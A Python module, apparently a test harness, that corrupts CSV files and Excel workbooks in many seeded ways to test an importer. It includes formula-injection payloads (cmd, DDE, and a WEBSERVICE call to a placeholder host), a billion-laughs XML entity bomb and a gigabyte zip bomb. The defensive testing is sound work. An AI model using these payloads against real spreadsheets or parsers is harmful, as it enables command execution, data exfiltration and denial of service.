"""What happens to files on their way here: each function spoils one thing, the same way for the same seed.

`TABLE` changes the rows of any table; `TEXT` how a text is written or what became of its bytes; `BOOK` a workbook's
cells and sheets; `ARCHIVE` the bytes of a workbook; `PATH` what stands where a file should.
"""

from __future__ import annotations

import contextlib
import io
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from made_files import DAY, PERCENT, Book, Cell, Grid, MadeSheet, letters, text_of

HOSTILE = ["=cmd|'/c calc'!A0", '=HYPERLINK("http://x.example","click")', "@SUM(A1:A9)", "+1+1", "-2+3", "=1+1"]
HOSTILE += ['=DDE("cmd";"/C calc";"x")', "'=1+1", "''=1", "-@x", '=WEBSERVICE("http://x.example/"&A1)', "=A1&A2"]
ERRORS = ["#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!"]
ODD = [
    "",
    " ",
    "-",
    "—",
    "NaN",
    "inf",
    "1e999",
    "1e3",
    "9" * 400,
    "<",
    "<5",
    "< 5",
    "<<5",
    "0x10",
    "²",
    "٣",
    "١٢",
    "１２",
]
ODD += [
    "1,204",
    "1.204",
    "1.204,50",
    "12,5",
    "1 204",
    "1\u00a0204",
    "1'204",
    "(300)",
    "-300",
    "300-",
    "$1,204.50",
    "22%",
]
ODD += ["1,2O4", "l2", "1-9", "9-Jan", "1 to 9", ">3", ">=3", "*", "NA", "n/a", "§", "¶", "suppressed", "zero", "10+"]
ODD += ["2022-00", "2022-13", "0000-01", "03/04/2022", "3/31/2022", "Jan-25", "Mar 2022", "2022/3", "44621", "202203"]
ODD += [
    "2022-02-30",
    "2022-03-01 00:00:00",
    "25:00",
    "9.30",
    "5pm",
    "noon",
    "1/2/03",
    "\x1b[31mred",
    "💛",
    "Zoë",
    "דרור",
]
ODD += [
    "a;b",
    "a,b",
    "a\tb",
    "a|b",
    'say "so"',
    "line\nbreak",
    "line\rbreak",
    "\u202eevil",
    "null",
    "None",
    "TRUE",
    "x" * 300,
]
ODD += [
    "0",
    "00",
    "007",
    "+5",
    "5.0",
    "5.00000000001",
    ".5",
    "5.",
    "1e-400",
    "100%%",
    "%",
    "$",
    "()",
    "yes",
    "No",
    "total",
]
ODD += [
    "a\u200bb",
    "\u200b",
    "\ufeff12",
    "12\u00a0",
    "\x0b12",
    "a\x85b",
    "a\u2028b",
    "\x01",
    "\x7f",
    "&amp;",
    "<b>",
    "]]>",
]
TRANSLATED = {
    "month": "Monat", "value": "Wert", "measure": "Messgröße", "site": "Standort", "name": "nombre", "amount": "importe",
    "role": "rôle", "people": "人数", "fund": "fonds", "date": "Datum", "area": "zona", "Deaths": "Muertes", "fact": "hecho",
    "Amount": "Betrag", "Date": "Fecha", "jurisdiction": "jurisdicción", "State": "Estado", "Month": "Mes",
}  # fmt: skip

Rows = Callable[[Grid, random.Random], None]


def _place(rows: Grid, rng: random.Random, *, header: bool = False) -> tuple[int, int] | None:
    """A random cell of a table, the header's apart."""
    there = [n for n in range(0 if header else 1, len(rows)) if rows[n]]
    if not there:
        return None
    row = rng.choice(there)
    return row, rng.randrange(len(rows[row]))


def _put(rows: Grid, rng: random.Random, texts: list[str], times: int) -> None:
    for _ in range(times):
        if (place := _place(rows, rng)) is not None:
            rows[place[0]][place[1]] = rng.choice(texts)


def untouched(rows: Grid, rng: random.Random) -> None:
    """As it should be."""


def odd_cells(rows: Grid, rng: random.Random) -> None:
    _put(rows, rng, ODD, rng.randint(1, 6))


def one_odd_cell(rows: Grid, rng: random.Random) -> None:
    _put(rows, rng, ODD, 1)


def odd_column(rows: Grid, rng: random.Random) -> None:
    """Something odd in a third of one column's cells."""
    if (place := _place(rows, rng)) is not None:
        for row in rows[1:]:
            if len(row) > place[1] and rng.random() < 0.3:
                row[place[1]] = rng.choice(ODD)


def hostile_formulas(rows: Grid, rng: random.Random) -> None:
    _put(rows, rng, HOSTILE, rng.randint(1, 4))


def error_texts(rows: Grid, rng: random.Random) -> None:
    _put(rows, rng, ERRORS, rng.randint(1, 4))


def blanked(rows: Grid, rng: random.Random) -> None:
    _put(rows, rng, ["", " ", "\u00a0", "\t"], rng.randint(1, 8))


def header_cell_lost(rows: Grid, rng: random.Random) -> None:
    rows[0][rng.randrange(len(rows[0]))] = ""


def header_misspelled(rows: Grid, rng: random.Random) -> None:
    place = rng.randrange(len(rows[0]))
    said = rows[0][place]
    rows[0][place] = said[:1] + said[2:] if len(said) > 3 else said + "s"


def header_doubled(rows: Grid, rng: random.Random) -> None:
    """A column stands twice, its cells too."""
    place = rng.randrange(len(rows[0]))
    for row in rows:
        row.append(row[place] if place < len(row) else "")


def header_twice(rows: Grid, rng: random.Random) -> None:
    """The header again, somewhere below."""
    rows.insert(rng.randrange(1, len(rows) + 1), list(rows[0]))


def header_only(rows: Grid, rng: random.Random) -> None:
    del rows[1:]


def header_missing(rows: Grid, rng: random.Random) -> None:
    if len(rows) > 1:
        del rows[0]


def header_upper(rows: Grid, rng: random.Random) -> None:
    rows[0] = [rng.choice([name.upper(), name.title(), f" {name.replace('_', ' ')} "]) for name in rows[0]]


def header_lower(rows: Grid, rng: random.Random) -> None:
    rows[0] = [name.lower() for name in rows[0]]


def header_translated(rows: Grid, rng: random.Random) -> None:
    rows[0] = [TRANSLATED.get(name, name) for name in rows[0]]


def title_rows(rows: Grid, rng: random.Random) -> None:
    for title in rng.sample(["Harbor Street", "Report of visits, 2022", "", "As of April 3"], rng.randint(1, 3)):
        rows.insert(0, [title, *[""] * rng.choice([0, len(rows[0]) - 1])])


def notes_below(rows: Grid, rng: random.Random) -> None:
    rows += [[], ["Source: our own count"], ["* hidden for privacy"]]


def trailing_commas(rows: Grid, rng: random.Random) -> None:
    for row in rows:
        row += [""] * 5
    rows += [[""] * len(rows[0])] * 20


def column_of_notes(rows: Grid, rng: random.Random) -> None:
    rows[0].append("remarks")
    for row in rows[1:]:
        row.append(rng.choice(["", "", "please check"]))


def cells_beyond(rows: Grid, rng: random.Random) -> None:
    """More cells than the header has, as a comma without quotation marks makes them."""
    rng.choice(rows[1:] or rows).append(rng.choice(["204", "x"]))


def short_rows(rows: Grid, rng: random.Random) -> None:
    for row in rng.sample(rows[1:], min(3, len(rows) - 1)):
        del row[rng.randrange(len(row) + 1) :]


def rows_doubled(rows: Grid, rng: random.Random) -> None:
    for row in rng.sample(rows[1:], min(rng.randint(1, 4), len(rows) - 1)):
        rows.insert(rng.randrange(1, len(rows) + 1), list(row))


def rows_shuffled(rows: Grid, rng: random.Random) -> None:
    rows[1:] = rng.sample(rows[1:], len(rows) - 1)


def rows_lost(rows: Grid, rng: random.Random) -> None:
    for _ in range(rng.randint(1, 5)):
        if len(rows) > 2:
            del rows[rng.randrange(1, len(rows))]


def everything_twice(rows: Grid, rng: random.Random) -> None:
    rows += [list(row) for row in rows]


def columns_shuffled(rows: Grid, rng: random.Random) -> None:
    order = rng.sample(range(len(rows[0])), len(rows[0]))
    rows[:] = [[row[at] if at < len(row) else "" for at in order] + row[len(order) :] for row in rows]


def columns_swapped(rows: Grid, rng: random.Random) -> None:
    """Two names change places, their cells do not."""
    a, b = rng.randrange(len(rows[0])), rng.randrange(len(rows[0]))
    rows[0][a], rows[0][b] = rows[0][b], rows[0][a]


def column_lost(rows: Grid, rng: random.Random) -> None:
    place = rng.randrange(len(rows[0]))
    rows[:] = [row[:place] + row[place + 1 :] for row in rows]


def blank_rows(rows: Grid, rng: random.Random) -> None:
    for _ in range(rng.randint(1, 6)):
        rows.insert(rng.randrange(len(rows) + 1), [])


def blank_column(rows: Grid, rng: random.Random) -> None:
    place = rng.randrange(len(rows[0]) + 1)
    rows[:] = [[*row[:place], "", *row[place:]] for row in rows]


def spaces(rows: Grid, rng: random.Random) -> None:
    rows[:] = [[rng.choice(["", " ", "\u00a0", "\t"]) + cell + rng.choice(["", " "]) for cell in row] for row in rows]


def nothing(rows: Grid, rng: random.Random) -> None:
    rows.clear()


def decimal_commas(rows: Grid, rng: random.Random) -> None:
    rows[1:] = [[re.sub(r"^(-?\d+)\.(\d+)$", r"\1,\2", cell) for cell in row] for row in rows[1:]]


def thousands(rows: Grid, rng: random.Random) -> None:
    mark = rng.choice([",", " ", "'", "\u202f", "."])
    grouped = [[re.sub(r"^(\d+)(\d{3})$", rf"\1{mark}\2", c) for c in row] for row in rows[1:]]
    rows[1:] = [[new if not re.fullmatch(r"(19|20)\d\d", old) else old for new, old in zip(*pair, strict=True)]
                for pair in zip(grouped, rows[1:], strict=True)]  # fmt: skip


def huge_cell(rows: Grid, rng: random.Random) -> None:
    _put(rows, rng, ["x" * 1_000_000, "5" * 1_000_000, "a,b;c\n" * 170_000], 1)


def long_cell(rows: Grid, rng: random.Random) -> None:
    _put(rows, rng, ["x" * 32_767, "5" * 5_000, "x" * 99_999], 1)


def total_row(rows: Grid, rng: random.Random) -> None:
    rows.append(["Total", *[str(rng.randrange(999)) for _ in rows[0][1:]]])


def nuls(rows: Grid, rng: random.Random) -> None:
    if (place := _place(rows, rng)) is not None:
        rows[place[0]][place[1]] += "\0"


def controls(rows: Grid, rng: random.Random) -> None:
    if (place := _place(rows, rng)) is not None:
        rows[place[0]][place[1]] += rng.choice("\x01\x02\x07\x08\x1b\x1f\x7f")


TABLE: list[Rows] = [
    *(untouched, odd_cells, one_odd_cell, odd_column, hostile_formulas, error_texts, blanked, header_cell_lost),
    *(header_misspelled, header_doubled, header_twice, header_only, header_missing, header_upper, header_lower),
    *(header_translated, title_rows, notes_below, trailing_commas, column_of_notes, cells_beyond, short_rows),
    *(rows_doubled, rows_shuffled, rows_lost, everything_twice, columns_shuffled, columns_swapped, column_lost),
    *(blank_rows, blank_column, spaces, nothing, decimal_commas, thousands, huge_cell, long_cell, total_row, nuls),
    controls,
]
GENTLE: list[Rows] = [untouched, header_upper, trailing_commas, rows_shuffled, columns_shuffled, blank_rows, spaces]
"""Changes after which a table says what it said."""


@dataclass(slots=True)
class TextFile:
    """A text and how it is to be written; `spoil` changes its bytes at last."""

    rows: Grid
    delimiter: str = ","
    end: str = "\n"
    quoted: bool = False
    encoding: str = "utf-8"
    before: str = ""
    after: str = ""
    spoil: list[Callable[[bytes, random.Random], bytes]] = field(default_factory=list)

    def data(self, rng: random.Random) -> bytes:
        """Its bytes."""
        text = self.before + text_of(self.rows, self.delimiter, self.end, quoted=self.quoted) + self.after
        errors = "surrogatepass" if self.encoding.startswith("utf") else "replace"
        raw = text.encode(self.encoding, errors=errors)
        for spoil in self.spoil:
            raw = spoil(raw, rng)
        return raw


Text = Callable[[TextFile, random.Random], None]


def semicolons(file: TextFile, rng: random.Random) -> None:
    file.delimiter = ";"


def tabs(file: TextFile, rng: random.Random) -> None:
    file.delimiter = "\t"


def bars(file: TextFile, rng: random.Random) -> None:
    file.delimiter = "|"


def semicolons_and_commas(file: TextFile, rng: random.Random) -> None:
    file.delimiter = ";"
    decimal_commas(file.rows, rng)


def said_delimiter(file: TextFile, rng: random.Random) -> None:
    file.delimiter = rng.choice(";,\t|")
    file.before = f"sep={file.delimiter}\r\n"


def all_quoted(file: TextFile, rng: random.Random) -> None:
    file.quoted = True


def with_mark(file: TextFile, rng: random.Random) -> None:
    file.encoding = "utf-8-sig"


def utf_16(file: TextFile, rng: random.Random) -> None:
    file.encoding = "utf-16"


def utf_16_unmarked(file: TextFile, rng: random.Random) -> None:
    file.encoding = rng.choice(["utf-16-le", "utf-16-be", "utf-32"])


def windows(file: TextFile, rng: random.Random) -> None:
    file.encoding = "cp1252"
    _put(file.rows, rng, ["Zoë", "señora", "Straße 3"], 2)


def another_encoding(file: TextFile, rng: random.Random) -> None:
    file.encoding = rng.choice(["mac-roman", "shift-jis", "cp1251", "latin-1", "cp437", "utf-7"])
    _put(file.rows, rng, ["Zoë", "ハーム", "Привет", "señora"], 2)


def old_mac(file: TextFile, rng: random.Random) -> None:
    file.end = "\r"


def dos(file: TextFile, rng: random.Random) -> None:
    file.end = "\r\n"


def mixed_ends(file: TextFile, rng: random.Random) -> None:
    file.spoil.append(lambda raw, rng: re.sub(b"\n", lambda _: rng.choice([b"\n", b"\r\n", b"\r", b"\n\n"]), raw))


def truncated(file: TextFile, rng: random.Random) -> None:
    file.spoil.append(lambda raw, rng: raw[: rng.randrange(len(raw) + 1)])


def flipped(file: TextFile, rng: random.Random) -> None:
    file.spoil.append(lambda raw, rng: flip(raw, rng, rng.choice([1, 3, 20])))


def flip(raw: bytes, rng: random.Random, times: int) -> bytes:
    """Some bytes changed."""
    changed = bytearray(raw)
    for _ in range(times if raw else 0):
        changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)


def inserted(file: TextFile, rng: random.Random) -> None:
    """A stray byte or two, a lone surrogate, a quotation mark."""
    stray = rng.choice([b'"', b'"', b"\0", b"\xed\xa0\x80", b"\xff", b"\r", b"\n", b"\x1a", b"'", b",", b";", b'""'])

    def spoil(raw: bytes, rng: random.Random) -> bytes:
        at = rng.randrange(len(raw) + 1)
        return raw[:at] + stray + raw[at:]

    file.spoil.append(spoil)


def no_text(file: TextFile, rng: random.Random) -> None:
    """Something else under this name."""
    file.spoil.append(lambda raw, rng: rng.choice(OTHERS))


def empty(file: TextFile, rng: random.Random) -> None:
    file.spoil.append(lambda raw, rng: rng.choice([b"", b"\n", b"\xef\xbb\xbf", b" \r\n\t\r\n", b"\xff\xfe", b","]))


def _zipped(parts: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return raw.getvalue()


PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
OTHERS = [
    PICTURE,
    b"\xff\xd8\xff\xe0" + bytes(range(256)),
    b"GIF89a" + bytes(100),
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),  # before 2007, or locked with a password
    _zipped({"a.txt": b"hello"}),
    _zipped({}),
    _zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office/>"}),
    _zipped({"Index/Document.iwa": b"\0" * 50, "preview.jpg": b"\xff\xd8\xff"}),  # .numbers
    random.Random(1).randbytes(3_000),
    bytes(500),
    b"<html><table><tr><td>visits</td></tr></table></html>",
    b'{"visits": 12}',
    b"PK\x03\x04" + bytes(200),
]

TEXT: list[Text] = [
    *(semicolons, tabs, bars, semicolons_and_commas, said_delimiter, all_quoted, with_mark, utf_16, utf_16_unmarked),
    *(windows, another_encoding, old_mac, dos, mixed_ends, truncated, flipped, inserted, no_text, empty),
]

OnBook = Callable[[Book, random.Random], None]


def _cell(book: Book, rng: random.Random) -> tuple[MadeSheet, int, int]:
    """A random cell below a header."""
    sheets = [sheet for sheet in book.sheets if len(sheet.rows) > 1 and sheet.rows[1]]
    sheet = rng.choice(sheets)
    row = rng.choice([n for n in range(1, len(sheet.rows)) if sheet.rows[n]])
    return sheet, row, rng.randrange(len(sheet.rows[row]))


def _set(book: Book, rng: random.Random, cells: list[Cell], times: int = 1) -> None:
    for _ in range(times):
        sheet, row, place = _cell(book, rng)
        sheet.rows[row][place] = rng.choice(cells)


def nothing_done(book: Book, rng: random.Random) -> None:
    """As it should be."""


def rows_hidden(book: Book, rng: random.Random) -> None:
    sheet, row, _ = _cell(book, rng)
    sheet.hidden_rows |= {row + 1, len(sheet.rows)}


def columns_hidden(book: Book, rng: random.Random) -> None:
    sheet, _, place = _cell(book, rng)
    sheet.hidden_columns.add(place)


def sheet_hidden(book: Book, rng: random.Random) -> None:
    rng.choice(book.sheets).state = rng.choice(["hidden", "veryHidden"])


def merged(book: Book, rng: random.Random) -> None:
    sheet, row, place = _cell(book, rng)
    sheet.merged.append(f"{letters(place)}{row + 1}:{letters(place + rng.randint(0, 2))}{row + 1 + rng.randint(0, 2)}")


def formulas(book: Book, rng: random.Random) -> None:
    """Formulas that were worked out: what they came to is what counts."""
    for _ in range(rng.randint(1, 5)):
        sheet, row, place = _cell(book, rng)
        cell = sheet.rows[row][place]
        if cell is not None:
            kind = "words" if cell.kind in ("text", "inline") else cell.kind
            sheet.rows[row][place] = Cell(kind, cell.value, cell.style, "SUM(A1:A9)")


def formulas_never(book: Book, rng: random.Random) -> None:
    """Formulas that were never worked out, in each way to write one."""
    _set(book, rng, [Cell("never", inside, 0, f) for inside in ("", "<v/>", "<v></v>") for f in ("1+1", "A1&B1")], 3)


def formula_of_nothing(book: Book, rng: random.Random) -> None:
    _set(book, rng, [Cell("words", "", 0, 'IF(A1>0,"","x")')])


def hostile(book: Book, rng: random.Random) -> None:
    _set(book, rng, [Cell("text", text) for text in HOSTILE], 3)
    _set(
        book, rng, [Cell("words", "0", 0, "cmd|'/c calc'!A0"), Cell("number", "0", 0, 'HYPERLINK("http://x.example")')]
    )


def errors(book: Book, rng: random.Random) -> None:
    _set(book, rng, [Cell("error", text, 0, rng.choice(["", "1/0"])) for text in ERRORS], 2)


def odd_texts(book: Book, rng: random.Random) -> None:
    _set(book, rng, [Cell("text", text) for text in ODD if text.strip()], rng.randint(1, 6))


def odd_numbers(book: Book, rng: random.Random) -> None:
    said = ["1E3", "1.2E-2", "-0", "1E+300", "0.1", "44621", "12.0000000001", "1.204", "123456789012345678", "4.9E-324"]
    _set(book, rng, [Cell("number", text) for text in said], 4)


def odd_kinds(book: Book, rng: random.Random) -> None:
    _set(book, rng, [Cell("bool", "1"), Cell("bool", "0"), Cell("number", "0.22", PERCENT), Cell("text", "12")], 4)


def serials(book: Book, rng: random.Random) -> None:
    """Days as plain numbers, and numbers as days."""
    _set(book, rng, [Cell("number", "44621"), Cell("number", "12", DAY), Cell("number", "44621.75", DAY)], 3)
    _set(book, rng, [Cell("number", "0", DAY), Cell("number", "60", DAY), Cell("number", "2958465", DAY)], 1)


def numbers_as_text(book: Book, rng: random.Random) -> None:
    sheet, _, place = _cell(book, rng)
    for row in sheet.rows:
        if place < len(row) and (cell := row[place]) is not None and cell.style == 0:
            row[place] = Cell("text", cell.value)


def bare(book: Book, rng: random.Random) -> None:
    """Cells and rows that do not say where they stand, a formula without a value and an error among them."""
    book.bare = True
    rng.choice([formulas_never, errors, merged, nothing_done])(book, rng)


def named_space(book: Book, rng: random.Random) -> None:
    book.prefix = "x"
    rng.choice([formulas_never, errors, rows_hidden, nothing_done])(book, rng)


def single_marks(book: Book, rng: random.Random) -> None:
    """Attributes in single quotation marks, as some programs write them."""
    book.single = True
    rng.choice([formulas_never, errors, rows_hidden, merged])(book, rng)


def blank_above(book: Book, rng: random.Random) -> None:
    book.blank_rows, book.blank_columns = rng.randint(0, 3), rng.randint(0, 3)
    rng.choice([formulas_never, errors, odd_texts, nothing_done])(book, rng)


def sheets_shuffled(book: Book, rng: random.Random) -> None:
    rng.shuffle(book.sheets)


def names_changed(book: Book, rng: random.Random) -> None:
    sheet = rng.choice(book.sheets)
    change: list[Callable[[str], str]] = [str.upper, str.title, lambda name: f" {name} ", lambda name: name + "s"]
    change += [lambda name: "Personal", lambda name: name[:-1], lambda name: "x" * 200, lambda name: f"{name}&\"<>'"]
    sheet.name = rng.choice(change)(sheet.name)


def sheet_twice(book: Book, rng: random.Random) -> None:
    sheet = rng.choice(book.sheets)
    book.sheets.append(MadeSheet(rng.choice([sheet.name.upper(), sheet.name + " "]), [list(row) for row in sheet.rows]))


def sheet_lost(book: Book, rng: random.Random) -> None:
    book.sheets.remove(rng.choice(book.sheets))


def sheet_emptied(book: Book, rng: random.Random) -> None:
    rng.choice(book.sheets).rows.clear()


def own_sheet(book: Book, rng: random.Random) -> None:
    name = rng.choice(["notes", "Sheet1", "2022", "lists", "чёрный"])
    book.sheets.insert(0, MadeSheet(name, [[Cell("text", "mine"), Cell("number", "3")]]))


def far_cell(book: Book, rng: random.Random) -> None:
    """One cell far below, or far to the right."""
    sheet = rng.choice(book.sheets)
    if rng.random() < 0.5:
        sheet.rows += [[] for _ in range(20_000)]
        sheet.rows.append([Cell("text", "stray")])
    else:
        sheet.rows[-1] += [None] * 3_000 + [Cell("text", "stray")]


def mac_days(book: Book, rng: random.Random) -> None:
    """The same numbers, days counted from 1904: other days, and told as those."""
    book.mac = not book.mac


def big_cell(book: Book, rng: random.Random) -> None:
    _set(book, rng, [Cell("text", "x" * 1_000_000), Cell("inline", "5" * 1_000_000), Cell("text", "y" * 99_000)])


BOOK: list[OnBook] = [
    *(nothing_done, rows_hidden, columns_hidden, sheet_hidden, merged, formulas, formulas_never, formula_of_nothing),
    *(hostile, errors, odd_texts, odd_numbers, odd_kinds, serials, numbers_as_text, bare, named_space, single_marks),
    *(
        blank_above,
        sheets_shuffled,
        names_changed,
        sheet_twice,
        sheet_lost,
        sheet_emptied,
        own_sheet,
        far_cell,
        mac_days,
    ),
    big_cell,
]

Bytes = Callable[[bytes, random.Random], bytes]


def _rezipped(raw: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if (data := change(part.filename, old.read(part))) is not None:
                new.writestr(zipfile.ZipInfo(part.filename), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def cut(raw: bytes, rng: random.Random) -> bytes:
    return raw[: rng.randrange(len(raw))]


def bytes_flipped(raw: bytes, rng: random.Random) -> bytes:
    return flip(raw, rng, rng.choice([1, 1, 2, 10, 100]))


def part_lost(raw: bytes, rng: random.Random) -> bytes:
    gone = rng.choice(zipfile.ZipFile(io.BytesIO(raw)).namelist())
    return _rezipped(raw, lambda name, data: None if name == gone else data)


def part_cut(raw: bytes, rng: random.Random) -> bytes:
    which = rng.choice(zipfile.ZipFile(io.BytesIO(raw)).namelist())
    return _rezipped(raw, lambda name, data: data[: rng.randrange(len(data))] if name == which else data)


def part_flipped(raw: bytes, rng: random.Random) -> bytes:
    """One byte of one part changed, its checksum right: XML that reads, but says something else or breaks off."""
    which = rng.choice(zipfile.ZipFile(io.BytesIO(raw)).namelist())
    return _rezipped(raw, lambda name, data: flip(data, rng, rng.choice([1, 2, 5])) if name == which else data)


def entity_bomb(raw: bytes, rng: random.Random) -> bytes:
    """Entities of entities: ten letters written out a billion times, if somebody lets them."""
    bomb = '<!ENTITY l0 "lollollol!">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    which = rng.choice(["xl/sharedStrings.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"])

    def change(name: str, data: bytes) -> bytes:
        if name != which:
            return data
        return f"<!DOCTYPE x [{bomb}]>".encode() + data.replace(b"</t>", b"&l9;</t>", 3).replace(
            b'name="', b'name="&l9;', 1
        )

    return _rezipped(raw, change)


def own_entity(raw: bytes, rng: random.Random) -> bytes:
    """A figure put together from an entity that the part defines itself."""

    def change(name: str, data: bytes) -> bytes:
        if not name.startswith("xl/worksheets"):
            return data
        return b'<!DOCTYPE worksheet [<!ENTITY a "7">]>' + data.replace(b"</v>", b"&a;</v>", 9)

    return _rezipped(raw, change)


def remarks_in_xml(raw: bytes, rng: random.Random) -> bytes:
    """Remarks and processing instructions where no one expects them; text in CDATA."""

    def change(name: str, data: bytes) -> bytes:
        if name == "xl/sharedStrings.xml":
            return re.sub(rb'(<t xml:space="preserve">)([^<&]+)(</t>)', rb"\1<![CDATA[\2]]>\3", data, count=40)
        if name.startswith("xl/worksheets"):
            return data.replace(b"</row>", b'<!-- <c r="B2"><f>1</f></c> --><?x y?></row>', 5)
        return data

    return _rezipped(raw, change)


def bomb(raw: bytes, rng: random.Random) -> bytes:
    """A part more, which unpacks to a gigabyte."""
    out = io.BytesIO(raw)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        name = rng.choice(["xl/media/image1.png", "xl/worksheets/sheet99.xml", "docProps/core.xml"])
        with archive.open(name, "w", force_zip64=True) as part:
            for _ in range(1_000):
                part.write(bytes(1 << 20))
    return out.getvalue()


def lying_sizes(raw: bytes, rng: random.Random) -> bytes:
    """Sizes in the archive's headers that are not so."""
    changed = bytearray(raw)
    for found in re.finditer(rb"PK\x01\x02", raw):
        if rng.random() < 0.5:
            at = found.start() + 24
            changed[at : at + 4] = rng.choice([0, 1, 0x7FFFFFFF, 5_000]).to_bytes(4, "little")
    return bytes(changed)


def something_else(raw: bytes, rng: random.Random) -> bytes:
    return rng.choice([*OTHERS, b"", b"month,site,measure,value\n2022-01,,visits,4\n"])


def bytes_behind(raw: bytes, rng: random.Random) -> bytes:
    return raw + rng.randbytes(rng.choice([1, 100, 5_000]))


def rows_out_of_order(raw: bytes, rng: random.Random) -> bytes:
    """Rows of one sheet in another order than their numbers, or a number that stands twice."""

    def change(name: str, data: bytes) -> bytes:
        if not name.startswith("xl/worksheets"):
            return data
        rows = re.findall(rb"<row.*?</row>", data, re.DOTALL)
        if len(rows) < 4:
            return data
        mixed = [rows[0], *rng.sample(rows[1:], len(rows) - 1)]
        return data.replace(b"".join(rows), b"".join(mixed))

    return _rezipped(raw, change)


def index_beyond(raw: bytes, rng: random.Random) -> bytes:
    """A cell that refers to a text that is not there, or holds no number where one belongs."""
    odd = rng.choice([b"999999", b"-1", b"abc", b""])

    def change(name: str, data: bytes) -> bytes:
        return re.sub(rb'(t="s"><v>)\d+', rb"\g<1>" + odd, data, count=1) if name.endswith("sheet2.xml") else data

    return _rezipped(raw, change)


ARCHIVE: list[Bytes] = [
    *(
        cut,
        bytes_flipped,
        part_lost,
        part_cut,
        part_flipped,
        entity_bomb,
        own_entity,
        remarks_in_xml,
        bomb,
        lying_sizes,
    ),
    *(something_else, bytes_behind, rows_out_of_order, index_beyond),
]

OnPath = Callable[[Path, random.Random], None]


def a_folder(path: Path, rng: random.Random) -> None:
    path.unlink()
    path.mkdir()


def a_dead_link(path: Path, rng: random.Random) -> None:
    path.unlink()
    path.symlink_to("nowhere")


def a_loop(path: Path, rng: random.Random) -> None:
    path.unlink()
    path.symlink_to(path.name)


def a_link(path: Path, rng: random.Random) -> None:
    """A link to the file itself, elsewhere: read as the file."""
    moved = path.with_name(f".{path.name}.moved")
    path.rename(moved)
    path.symlink_to(moved.name)


def not_to_be_read(path: Path, rng: random.Random) -> None:
    with contextlib.suppress(OSError):
        path.chmod(0)


def lost(path: Path, rng: random.Random) -> None:
    path.unlink()


def beside_others(path: Path, rng: random.Random) -> None:
    """Files beside it that look as if they belonged to it."""
    for name in ("Services.csv", "funds (1).csv", "sérvices.csv", "services.csv.bak", "~$funds.xlsx", "zeta 💛.csv"):
        if not path.with_name(name).exists():
            path.with_name(name).write_text("month,site,measure,value\n2022-01,,visits,4\n", encoding="utf-8")


PATH: list[OnPath] = [a_folder, a_dead_link, a_loop, a_link, not_to_be_read, lost, beside_others]
